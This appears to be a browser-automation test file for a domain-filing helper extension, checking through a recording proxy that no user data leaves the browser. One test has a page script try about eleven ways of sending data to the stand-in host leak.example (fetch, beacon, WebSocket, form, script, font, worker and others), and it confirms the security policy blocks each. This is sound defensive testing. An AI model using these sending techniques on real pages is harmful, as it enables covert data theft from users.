import { join } from 'node:path';
import type { Page } from 'puppeteer-core';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { ROOT } from '../../src/cli/load-ruleset.ts';
import { type Chromium, launchChromium } from '../support/browser/chromium.ts';
import { serveFixtures, waitForCards } from '../support/browser/fixtures.ts';
import { keptAnswers } from '../support/browser/kept-answers.ts';
import { choose, openScreen } from '../support/browser/outcomes.ts';
import { giveFiles, until } from '../support/browser/portfolio.ts';
import { type RecordingProxy, recordingProxy } from '../support/browser/proxy.ts';

const CONSOLE = 'console.huaweicloud.com';
/**
 * A page of our own that is not answered from memory: it shows that the proxy sees what is sent.
 */
const CONTROL = 'http://control.example/seen';

let proxy: RecordingProxy;
let chromium: Chromium;
beforeAll(async () => {
  proxy = await recordingProxy();
  chromium = await launchChromium({
    serve: serveFixtures({ [CONSOLE]: 'huawei-cloud', 'wanwang.aliyun.com': 'search' }).serve,
    // No name is found but by the proxy, and nothing goes past it, not even to this machine.
    switches: [
      `--proxy-server=${proxy.address}`,
      '--proxy-bypass-list=<-loopback>',
      '--host-resolver-rules=MAP * ~NOTFOUND, EXCLUDE 127.0.0.1',
    ],
  });
});
afterAll(async () => {
  await chromium?.close();
  await proxy?.close();
});

/**
 * Visits a page past the extension, and waits until the proxy has seen it: what was asked before is
 * written down by then.
 */
async function control(round: string): Promise<void> {
  const page = await chromium.browser.newPage();
  await page.goto(`${CONTROL}?${round}`);
  await page.close();
  expect(proxy.asked).toContain(`${CONTROL}?${round}`);
}

/**
 * What the browser asks of its maker by itself (updates, the time, its accounts, its own forms).
 */
const BROWSER = /^(?:CONNECT |https?:\/\/)(?:[a-z0-9-]+\.)*(?:google|googleapis|gvt1|gstatic)\.com[:/]/;
/**
 * The consoles that the test itself goes to: the browser makes their connection before the page is
 * answered from memory.
 */
const VISITED = ['huaweicloud.com', 'aliyun.com'].map(
  (name) => new RegExp(`^CONNECT [a-z]+\\.${name.replace('.', '\\.')}:443$`),
);

/** What the proxy saw besides the control, the browser's own, and the consoles' connections. */
const others = () =>
  proxy.asked.filter((one) => !one.startsWith(CONTROL) && ![BROWSER, ...VISITED].some((known) => known.test(one)));

/** Opens all that can be opened, and presses each button that is safe to press. */
async function openAll(page: Page): Promise<void> {
  await page.evaluate(() => {
    for (const details of document.querySelectorAll('details')) details.open = true;
  });
}

test('the proxy sees what pages send: by address, by script, encrypted, and to this machine', async () => {
  await control('first');
  const page = await chromium.browser.newPage();
  await page.goto(CONTROL);
  await page.evaluate(async () => {
    for (const address of ['http://by-script.example/', 'https://encrypted.example/'])
      await fetch(address, { mode: 'no-cors' }).catch(() => {});
  });
  for (const address of ['http://127.0.0.1:8081/', 'http://localhost:8081/']) await page.goto(address);
  await page.close();
  expect(proxy.asked).toEqual(
    expect.arrayContaining([
      'http://by-script.example/',
      'CONNECT encrypted.example:443',
      'http://127.0.0.1:8081/',
      'http://localhost:8081/',
    ]),
  );
  proxy.asked.length = 0;
});

test("the pages' policy refuses each means of sending that a script could try", async () => {
  const page = await chromium.openPage('src/entries/welcome/index.html', 'main');
  await page.evaluate(async () => {
    const seen: string[] = [];
    Object.assign(window, { seen });
    document.addEventListener('securitypolicyviolation', (event) => seen.push(event.effectiveDirective));
    const tries: readonly (() => unknown)[] = [
      () => fetch('http://leak.example/fetch'),
      () => navigator.sendBeacon('http://leak.example/beacon', 'x'),
      () => new WebSocket('ws://leak.example/socket'),
      () => new EventSource('http://leak.example/events'),
      () => {
        new Image().src = 'http://leak.example/picture';
      },
      () => {
        const link = document.createElement('link');
        link.rel = 'stylesheet';
        link.href = 'http://leak.example/sheet';
        document.head.append(link);
      },
      () => {
        const frame = document.createElement('iframe');
        frame.src = 'http://leak.example/frame';
        document.body.append(frame);
      },
      () => {
        const form = document.createElement('form');
        form.action = 'http://leak.example/form';
        document.body.append(form);
        form.submit();
      },
      () => {
        const script = document.createElement('script');
        script.src = 'http://leak.example/script';
        document.body.append(script);
      },
      () => new FontFace('leak', 'url(http://leak.example/font)').load(),
      () => new Worker('http://leak.example/worker'),
    ];
    for (const one of tries) {
      try {
        await one();
      } catch {
        // Refused at once, or for another reason first.
      }
    }
  });
  for (const directive of [
    'connect-src',
    'font-src',
    'form-action',
    'frame-src',
    'img-src',
    'script-src-elem',
    'style-src-elem',
  ])
    await page.waitForFunction((name) => (window as unknown as { seen: string[] }).seen.includes(name), {}, directive);
  await page.close();
  await control('policy');
  expect(others()).toEqual([]);
});

test('the worker cannot send either', async () => {
  const target = await chromium.browser.waitForTarget((one) => one.type() === 'service_worker');
  const worker = await target.worker();
  const outcome = await worker?.evaluate(() =>
    fetch('http://leak.example/worker').then(
      () => 'sent',
      () => 'refused',
    ),
  );
  expect(outcome).toBe('refused');
  await control('worker');
  expect(others()).toEqual([]);
});

test('every feature is used, and nothing leaves', async () => {
  // The popup: a verdict, an answer, guidance, search, steps.
  const popup = await chromium.openPopup('shop.example.com.cn');
  await openAll(popup);
  await choose(popup, 'filing-needed', 1);
  await popup.waitForSelector('main[data-findings~="filing-needed:pass"]');
  await popup.type('.name-field input', 'certificate');
  await popup.waitForSelector('.search [data-faq]');
  await popup.$eval('.name-field input', (input) => {
    (input as HTMLInputElement).value = '';
    input.dispatchEvent(new Event('input', { bubbles: true }));
  });
  await openScreen(popup, 'coverage');
  await openScreen(popup, 'record');
  await openScreen(popup, 'more');
  await openScreen(popup, 'compare');
  await openScreen(popup, 'registrar-licensed');
  await popup.close();

  // The steps of a name that is not ready, to be taken along.
  await chromium.evaluate(
    (known) => chrome.storage.local.set({ 'case:example.com': known }),
    keptAnswers({ registrar: 'godaddy', realName: 'not-done', holder: 'other' }),
  );
  const planned = await chromium.openPopup('www.example.com');
  await openScreen(planned, 'steps');
  await planned.$$eval('.steps button', (buttons) => {
    for (const button of buttons) (button as HTMLButtonElement).click();
  });
  await planned.close();

  // Explaining a selected message, as the menu does.
  const explain = await chromium.openPage(
    `src/entries/popup/index.html?explain=${encodeURIComponent('域名对应注册商未获得工信部批复')}`,
    'main',
  );
  await explain.close();

  // The other pages.
  for (const [path, selector] of [
    ['src/entries/options/index.html', 'main .hints'],
    ['src/entries/welcome/index.html', 'main'],
    ['src/entries/facts/index.html', 'main'],
  ] as const) {
    const page = await chromium.openPage(path, selector);
    await openAll(page);
    await page.close();
  }

  // The portfolio: a list, a spreadsheet, the plan, each way out.
  const portfolio = await chromium.openPage('src/entries/portfolio/index.html', 'main[data-rows]');
  await portfolio.type('.intake textarea', 'example.com example.cn foo.io');
  await portfolio.click('.intake button[type=submit]');
  await portfolio.waitForSelector('.plan');
  await giveFiles(portfolio, join(ROOT, 'test/support/fixtures/names.xlsx'));
  await portfolio.waitForSelector('.grid [data-host="sheet-two.cn"]');
  await until(portfolio, 5);
  await portfolio.waitForSelector('.out button');
  await portfolio.evaluate(() => {
    const saved: string[] = [];
    const make = URL.createObjectURL;
    URL.createObjectURL = (blob: Blob) => {
      saved.push(blob.type);
      return make.call(URL, blob);
    };
    Object.assign(window, { saved });
  });
  const asked = await portfolio.$$eval('.out button', (buttons) => {
    const files = buttons.filter((one) =>
      /^(?:CSV|Markdown|JSON|Excel \(XLSX\)|Calendar \(ICS\))$/.test(one.textContent ?? ''),
    );
    for (const button of files) button.click();
    return files.length;
  });
  expect(asked).toBe(5);
  await portfolio.waitForFunction((count) => Reflect.get(window, 'saved').length === count, { polling: 50 }, asked);
  await portfolio.close();

  // Hints on consoles, whose pages are answered from memory; the real icon on them; a worker that
  // starts anew.
  const console = await chromium.open(`https://${CONSOLE}/`);
  await waitForCards(console, 2);
  const clicked = await chromium.clickIcon(console);
  await openAll(clicked);
  await clicked.close();
  await console.close();
  const search = await chromium.open('https://wanwang.aliyun.com/domain/searchresult');
  await search.waitForSelector('[data-icp-filing-guide=chip]');
  await search.close();

  await control('last');
  expect(others()).toEqual([]);
  expect(
    chromium.extensionRequests.filter((one) => !one.startsWith('http://leak.example/') && !one.startsWith('blob:')),
  ).toEqual([]);
});
